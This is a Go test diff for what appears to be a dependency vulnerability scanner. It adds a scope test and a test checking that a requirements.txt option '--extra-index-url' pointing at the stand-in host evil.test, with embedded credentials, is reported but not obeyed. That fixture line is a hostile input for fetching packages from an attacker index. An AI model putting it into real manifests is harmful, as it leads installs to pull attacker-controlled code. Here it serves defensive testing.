@@ -6,6 +6,7 @@ import (
 	"errors"
 	"fmt"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -274,6 +275,30 @@ func TestDatabasesThatCantVouch(t *testing.T) {
 	r, _, err := s.Once(t.Context(), events.ScanRequested{Application: "app", Target: write(t, map[string]string{"requirements.txt": "flask==2.2.2\n"})}, epoch)
 	if err != nil || r.Complete || len(r.Incomplete) != 1 || r.Incomplete[0].Reason != inventory.NoDatabase {
 		t.Errorf("no matcher at all: %+v %v", r.Incomplete, err)
+	}
+}
+
+// Two checkouts of one repository are one scope: the newest speaks for it, and nothing is opened twice.
+func TestTwoCheckoutsAreOneRepository(t *testing.T) {
+	w := newWorld(t, Config{})
+	for range 2 {
+		w.scan(write(t, map[string]string{"requirements.txt": "x==1\n"}))
+	}
+	w.book = newBook()
+	w.book.hits["x 1"] = []advisory.Hit{{ID: "CVE-2026-1", IDs: []string{"CVE-2026-1"}, Severity: "critical"}}
+	if got := kinds(w.handle(events.DatabaseUpdated{Databases: []events.Database{{Name: "PyPI"}}}, events.Org)); got != "finding.opened scan.completed" {
+		t.Errorf("%s", got)
+	}
+}
+
+// What a manifest asks for and does not get is told, without the password, in the scan and in each look after.
+func TestIndexOptionsAreReported(t *testing.T) {
+	w := newWorld(t, Config{})
+	dir := write(t, map[string]string{"requirements.txt": "--extra-index-url https://u:secret@evil.test/simple\nflask==2.2.2\n"})
+	_, first := w.completed(w.scan(dir))
+	want := []string{"requirements.txt:1: --extra-index-url https://evil.test/simple is not obeyed"}
+	if !slices.Equal(first.Notes, want) {
+		t.Errorf("notes %q, want %q", first.Notes, want)
 	}
 }
 
